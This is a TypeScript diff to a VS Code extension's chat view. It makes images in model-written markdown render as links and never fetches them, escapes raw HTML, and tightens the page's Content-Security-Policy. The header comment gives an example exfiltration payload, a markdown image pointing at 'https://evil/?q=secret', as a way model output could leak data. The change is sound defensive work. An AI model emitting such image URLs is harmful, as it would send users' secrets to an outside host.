@@ -1,12 +1,60 @@
-// The chat view's HTML: the conversation rendered with markdown-it (HTML in the markdown is not
-// rendered: html is off), inside a page whose Content-Security-Policy allows nothing but the
-// extension's own script and style. No vscode import.
+// The chat view's HTML: the conversation rendered with markdown-it, inside a page whose
+// Content-Security-Policy allows the extension's own script (by nonce) and style, and images only
+// from the extension's own resources (the webview's cspSource) and data: URLs; nothing else is
+// loaded. What the model writes is hostile: an image it writes (`![x](https://evil/?q=secret)`,
+// reference-style too) would send the words in its URL out as soon as the view showed it, so images
+// are rendered as links the person can click (opened by VS Code, which asks first), never fetched;
+// HTML in the markdown is shown as text, not rendered. No vscode import.
 
 import MarkdownIt from 'markdown-it';
 
 import type { ChatItem } from './chatModel';
 
-const md = new MarkdownIt({ html: false, linkify: true, breaks: false });
+const md = markdown(false);
+
+/**
+ * markdown is the chat's markdown-it: an image is a link to its URL, its words the alt text (or the
+ * URL when there is none); inside a link (a badge) it is the alt text alone, as links do not nest;
+ * only http(s) URLs become links (a data: or relative URL is left as words). Raw HTML is shown as
+ * text even with html on: a model's <img src=...> never renders.
+ */
+export function markdown(html: boolean): MarkdownIt {
+	const m = new MarkdownIt({ html, linkify: true, breaks: false });
+	m.renderer.rules.image = (tokens, idx, options, env, self) => {
+		const token = tokens[idx];
+		const src = token.attrGet('src') ?? '';
+		const alt = self.renderInlineAsText(token.children ?? [], options, env);
+		const text = `🖼 ${escapeHtml(alt || src)}`;
+		if (insideLink(tokens, idx) || !/^https?:/i.test(src)) {
+			return text;
+		}
+		return `<a class="image-link" href="${escapeHtml(src)}" title="${escapeHtml(src)}">${text}</a>`;
+	};
+	m.renderer.rules.html_inline = (tokens, idx) => escapeHtml(tokens[idx].content);
+	m.renderer.rules.html_block = (tokens, idx) => `<p>${escapeHtml(tokens[idx].content)}</p>`;
+	return m;
+}
+
+/** insideLink reports whether the inline token at idx lies between a link_open and its link_close. */
+function insideLink(tokens: readonly { type: string }[], idx: number): boolean {
+	let depth = 0;
+	for (let i = 0; i < idx; i++) {
+		if (tokens[i].type === 'link_open') {
+			depth++;
+		} else if (tokens[i].type === 'link_close') {
+			depth--;
+		}
+	}
+	return depth > 0;
+}
+
+/**
+ * csp is the page's Content-Security-Policy: nothing by default; images from the webview's own
+ * resources and data: URLs (nothing remote); the extension's style; its one script, by nonce.
+ */
+export function csp(nonce: string, cspSource: string): string {
+	return `default-src 'none'; img-src ${cspSource} data:; style-src ${cspSource}; script-src 'nonce-${nonce}';`;
+}
 
 /** escapeHtml escapes text for HTML. */
 export function escapeHtml(s: string): string {
@@ -55,7 +103,7 @@ export function page(nonce: string, cspSource: string, scriptUri: string, styleU
 <html lang="en">
 <head>
 <meta charset="UTF-8">
-<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src ${cspSource} https: data:; style-src ${cspSource}; script-src 'nonce-${nonce}';">
+<meta http-equiv="Content-Security-Policy" content="${csp(nonce, cspSource)}">
 <meta name="viewport" content="width=device-width, initial-scale=1.0">
 <link rel="stylesheet" href="${styleUri}">
 <title>Hermes</title>
